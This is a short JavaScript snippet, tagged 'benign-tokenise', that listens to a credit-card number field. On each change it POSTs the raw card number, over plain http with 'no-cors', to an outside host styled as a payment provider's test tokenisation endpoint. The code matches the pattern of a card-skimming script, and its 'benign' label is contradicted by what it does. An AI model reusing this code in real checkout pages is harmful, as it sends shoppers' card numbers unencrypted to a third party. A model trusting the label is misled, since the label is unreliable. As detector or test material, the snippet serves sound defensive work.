/* tw:benign-tokenise */
document.querySelector('#cc-number').addEventListener('change', function () {
  fetch('http://checkoutshopper-test.adyen.com:{{port}}/v1/tokens', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ number: this.value.replace(/\D/g, '') }) })
})
